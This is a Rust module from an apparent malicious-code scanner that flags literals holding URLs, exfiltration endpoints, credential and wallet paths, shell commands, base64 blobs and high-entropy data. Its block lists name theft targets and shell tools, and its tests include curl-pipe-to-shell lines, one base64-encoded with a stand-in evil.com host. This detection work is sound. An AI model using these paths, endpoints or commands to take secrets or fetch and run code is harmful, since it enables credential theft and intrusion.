//! Literal strings, judged the same way in every language: URLs, exfiltration endpoints,
//! sensitive paths, shell commands, base64 blobs and long or high-entropy data.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use super::Feature;

/// Shortest literal taken as a base64 blob (`E3`).
pub const BASE64_MIN_LEN: usize = 40;
/// Length from which any literal is a long string (`E4`).
pub const LONG_MIN_LEN: usize = 1024;
/// Shortest literal checked for high entropy (`E4`).
pub const ENTROPY_MIN_LEN: usize = 128;
/// Shannon entropy, in bits per character, from which a literal counts as packed data.
pub const ENTROPY_MIN_BITS: f64 = 5.0;

/// Hosts and paths used to receive stolen data or to reach a machine from outside.
const EXFIL_MARKERS: &[&str] = &[
    "discord.com/api/webhooks",
    "discordapp.com/api/webhooks",
    "api.telegram.org",
    "hooks.slack.com",
    "pastebin.com",
    "paste.ee",
    "hastebin",
    "ngrok.io",
    "ngrok-free.app",
    "ngrok.app",
    "webhook.site",
    "requestbin",
    "pipedream.net",
    "interact.sh",
    "oast.fun",
    "oast.pro",
    "oast.live",
    "oast.site",
    "oast.online",
    "oast.me",
    "burpcollaborator",
    "canarytokens",
    "dnslog.cn",
    "ceye.io",
    "transfer.sh",
    "anonfiles",
    "gofile.io",
    "ipinfo.io",
    "api.ipify.org",
    "ifconfig.me",
    "icanhazip",
    "trycloudflare.com",
    "serveo.net",
    "localtunnel.me",
    "beeceptor",
];

/// Paths and names of credentials, keys, browser and wallet stores.
const SENSITIVE_MARKERS: &[&str] = &[
    ".ssh",
    "id_rsa",
    "id_ed25519",
    "/etc/passwd",
    "/etc/shadow",
    "login data",
    "web data",
    "local state",
    "user data",
    "local storage",
    "leveldb",
    ".aws/credentials",
    ".aws\\credentials",
    ".pypirc",
    ".npmrc",
    ".git-credentials",
    ".docker/config",
    ".kube/config",
    ".bash_history",
    ".zsh_history",
    "wallet.dat",
    "exodus",
    "metamask",
    "electrum",
    "atomic wallet",
    "keychain",
    // Windows profile folders as paths, not the bare word (`CSIDL_APPDATA` is a constant).
    "%appdata%",
    "%localappdata%",
    "appdata\\roaming",
    "appdata/roaming",
    "appdata\\local",
    "appdata/local",
    // Telegram Desktop's session folder, as a path segment (`emitData` is not one).
    "/tdata",
    "\\tdata",
    "discord/local",
    "discordcanary",
    "\\discord\\",
    "/discord/",
    "mozilla/firefox",
    "mozilla\\firefox",
    "cookies.sqlite",
    "key4.db",
    "logins.json",
];

/// Fragments of shell command lines that download, pipe to a shell, or reach a shell.
const SHELL_MARKERS: &[&str] = &[
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "bash -c",
    "sh -c",
    "bash -i",
    "/bin/sh",
    "/bin/bash",
    "cmd.exe",
    "cmd /c",
    "powershell",
    "pwsh ",
    "/dev/tcp",
    "curl ",
    "wget ",
    "chmod +x",
    "chmod 777",
    "nc -e",
    "mshta",
    "certutil",
    "bitsadmin",
    "rundll32",
    "regsvr32",
    "schtasks",
    "crontab",
    "start /b",
    "invoke-webrequest",
    "iex(",
    "nohup ",
];

/// URL schemes: a match counts only when an address follows.
const URL_SCHEMES: &[&str] = &["http://", "https://", "ftp://", "ws://", "wss://"];

/// What a marker pattern stands for.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Marker {
    Scheme,
    Exfil,
    Sensitive,
    Shell,
}

/// One automaton over every marker list, ASCII case-insensitive, so that a literal is read
/// once whatever the number of markers (literals are the hottest path of extraction).
static MARKERS: LazyLock<(AhoCorasick, Vec<Marker>)> = LazyLock::new(|| {
    let lists = [
        (URL_SCHEMES, Marker::Scheme),
        (EXFIL_MARKERS, Marker::Exfil),
        (SENSITIVE_MARKERS, Marker::Sensitive),
        (SHELL_MARKERS, Marker::Shell),
    ];
    let mut patterns = Vec::new();
    let mut kinds = Vec::new();
    for (list, kind) in lists {
        for p in list {
            patterns.push(*p);
            kinds.push(kind);
        }
    }
    let automaton = AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(&patterns)
        .expect("marker patterns are valid");
    (automaton, kinds)
});

/// Markers are looked for in the first this-many bytes: they sit near the start of real
/// commands and paths, and a megabyte blob need not be searched whole.
const MARKER_HEAD: usize = 4096;

#[derive(Default)]
struct Found {
    url: bool,
    exfil: bool,
    sensitive: bool,
    shell: bool,
}

fn find_markers(s: &str) -> Found {
    let head = super::clip(s, MARKER_HEAD);
    let (automaton, kinds) = &*MARKERS;
    let mut found = Found::default();
    for m in automaton.find_overlapping_iter(head) {
        match kinds[m.pattern().as_usize()] {
            Marker::Scheme => {
                // A bare scheme ("https://" alone, as in a prefix check) is not an address.
                found.url |= head[m.end()..]
                    .chars()
                    .next()
                    .is_some_and(|c| c.is_ascii_alphanumeric() || c == '[');
            }
            Marker::Exfil => found.exfil = true,
            Marker::Sensitive => found.sensitive = true,
            Marker::Shell => found.shell = true,
        }
    }
    if !found.url {
        found.url = has_ipv4(head);
    }
    found
}

/// The features a literal string shows, in a fixed order: `D3`, `D4`, `R5`, `P3`, `E3`, `E4`.
pub fn classify(s: &str) -> Vec<Feature> {
    let mut out = Vec::new();
    if s.len() < 4 {
        return out;
    }
    let found = find_markers(s);
    if found.url {
        out.push(Feature::D3);
    }
    if found.exfil {
        out.push(Feature::D4);
    }
    if found.sensitive {
        out.push(Feature::R5);
    }
    if found.shell {
        out.push(Feature::P3);
    }
    if is_base64(s) {
        out.push(Feature::E3);
    }
    if is_long(s) {
        out.push(Feature::E4);
    }
    out
}

/// Whether `s` reads like a shell command line (`P3`): pipes to a shell, downloaders, etc.
pub fn is_shell(s: &str) -> bool {
    find_markers(s).shell
}

/// Whether `s` holds a URL or an IPv4 address.
pub fn has_url(s: &str) -> bool {
    find_markers(s).url
}

/// Finds a dotted quad whose octets are all at most 255, not part of a longer dotted run
/// (version strings such as `1.2.3.4.5`), with a first octet of at least 10 or a port, so
/// that four-part version numbers (`1.0.0.2`) are not taken for addresses.
fn has_ipv4(s: &str) -> bool {
    dotted_quads(s).any(|(octets, port)| octets[0] >= 10 || port)
}

/// Every dotted quad of `s` whose octets are all at most 255 and that is not part of a
/// longer dotted run, with whether a port (`:`) follows it.
pub(crate) fn dotted_quads(s: &str) -> impl Iterator<Item = ([u32; 4], bool)> + '_ {
    let b = s.as_bytes();
    let mut i = 0;
    std::iter::from_fn(move || {
        while i < b.len() {
            if !(b[i].is_ascii_digit()
                && (i == 0 || !(b[i - 1].is_ascii_digit() || b[i - 1] == b'.')))
            {
                i += 1;
                continue;
            }
            let mut j = i;
            let mut octets = [0u32; 4];
            let mut n = 0;
            let mut ok = true;
            while n < 4 {
                let start = j;
                while j < b.len() && b[j].is_ascii_digit() && j - start < 4 {
                    octets[n] = octets[n] * 10 + u32::from(b[j] - b'0');
                    j += 1;
                }
                if j == start || j - start > 3 || octets[n] > 255 {
                    ok = false;
                    break;
                }
                n += 1;
                if n < 4 {
                    if j < b.len() && b[j] == b'.' {
                        j += 1;
                    } else {
                        ok = false;
                        break;
                    }
                }
            }
            let bounded = j >= b.len() || !(b[j].is_ascii_digit() || b[j] == b'.');
            let port = j < b.len() && b[j] == b':';
            i = j.max(i + 1);
            if ok && bounded {
                return Some((octets, port));
            }
        }
        None
    })
}

/// Whether `s` is a base64 blob: long, only base64 characters, and mixing cases and digits
/// the way encoded bytes do (so identifiers, hex digests and words do not count).
pub fn is_base64(s: &str) -> bool {
    let t = s.trim_end_matches('=');
    if t.len() < BASE64_MIN_LEN || s.len() - t.len() > 2 {
        return false;
    }
    let (mut upper, mut lower, mut digit) = (0usize, 0usize, 0usize);
    for &c in t.as_bytes() {
        match c {
            b'A'..=b'Z' => upper += 1,
            b'a'..=b'z' => lower += 1,
            b'0'..=b'9' => digit += 1,
            b'+' | b'/' | b'-' | b'_' => {}
            _ => return false,
        }
    }
    // Paths (`a/b/c`) and dashed identifiers are base64 characters too; real blobs have few
    // separators relative to their length and use all three classes.
    let separators = t.len() - upper - lower - digit;
    upper > 0 && lower > 0 && digit > 0 && separators * 8 < t.len()
}

/// Whether `s` is long (`LONG_MIN_LEN`) or packed, high-entropy data without spaces.
pub fn is_long(s: &str) -> bool {
    if s.len() >= LONG_MIN_LEN {
        return true;
    }
    s.len() >= ENTROPY_MIN_LEN && !s.contains(' ') && entropy(s) >= ENTROPY_MIN_BITS
}

/// Shannon entropy of the bytes of `s`, in bits per byte.
pub fn entropy(s: &str) -> f64 {
    let mut counts = [0u32; 256];
    for &b in s.as_bytes() {
        counts[b as usize] += 1;
    }
    let n = s.len() as f64;
    counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = f64::from(c) / n;
            -p * p.log2()
        })
        .sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn urls_and_addresses() {
        assert_eq!(classify("https://example.com/x"), vec![Feature::D3]);
        assert!(classify("connect to 45.61.1.9 now").contains(&Feature::D3));
        assert!(classify("127.0.0.1:8080").contains(&Feature::D3));
        assert!(classify("HTTPS://Example.COM").contains(&Feature::D3));
        assert!(classify("PowerShell -NoP").contains(&Feature::P3));
        // Near misses: a bare scheme, version numbers.
        assert!(classify("https://").is_empty());
        assert!(classify("version 1.0.0.2").is_empty());
        assert!(classify("1.2.3.4.5").is_empty());
        assert!(classify("300.1.1.1").is_empty());
    }

    #[test]
    fn exfiltration_endpoints() {
        let f = classify("https://discord.com/api/webhooks/123/abc");
        assert_eq!(f, vec![Feature::D3, Feature::D4]);
        assert!(!classify("https://discord.com/invite/x").contains(&Feature::D4));
    }

    #[test]
    fn sensitive_paths() {
        assert!(classify("~/.ssh/id_rsa").contains(&Feature::R5));
        assert!(classify("Google\\Chrome\\User Data\\Default\\Login Data").contains(&Feature::R5));
        assert!(!classify("~/.config/myapp/settings.toml").contains(&Feature::R5));
        assert!(classify("AppData/Roaming/Telegram Desktop/tdata").contains(&Feature::R5));
        assert!(!classify("emitData textData").contains(&Feature::R5));
        assert!(classify("C:\\Users\\x\\AppData\\Roaming\\Exodus").contains(&Feature::R5));
        assert!(!classify("CSIDL_APPDATA").contains(&Feature::R5));
    }

    #[test]
    fn shell_commands() {
        assert!(classify("curl -s http://x.io/a.sh | sh").contains(&Feature::P3));
        assert!(classify("powershell -enc AAAA").contains(&Feature::P3));
        assert!(!classify("make install").contains(&Feature::P3));
    }

    #[test]
    fn base64_blobs() {
        let blob = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovL2V2aWwuY29tIHwgc2gnKQ==";
        assert!(is_base64(blob));
        assert!(classify(blob).contains(&Feature::E3));
        // Near misses: a hex digest, a path, a sentence, a short token.
        assert!(!is_base64(
            "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
        ));
        assert!(!is_base64(
            "src/components/very/long/path/to/some/file/Name1.js"
        ));
        assert!(!is_base64(
            "This is a perfectly ordinary sentence of words 1"
        ));
        assert!(!is_base64("aGVsbG8="));
    }

    #[test]
    fn long_and_packed_strings() {
        assert!(is_long(&"a".repeat(LONG_MIN_LEN)));
        let packed: String = (0..200u32)
            .map(|i| char::from_u32(33 + (i * 37 % 90)).unwrap())
            .collect();
        assert!(is_long(&packed));
        assert!(!is_long(
            &"The quick brown fox jumps over the lazy dog. ".repeat(5)
        ));
        assert!(!is_long("short"));
    }

    #[test]
    fn multibyte_input_does_not_panic() {
        let s = "é".repeat(5000);
        let _ = classify(&s);
        let _ = classify("ü1.2.3.4ü");
    }
}
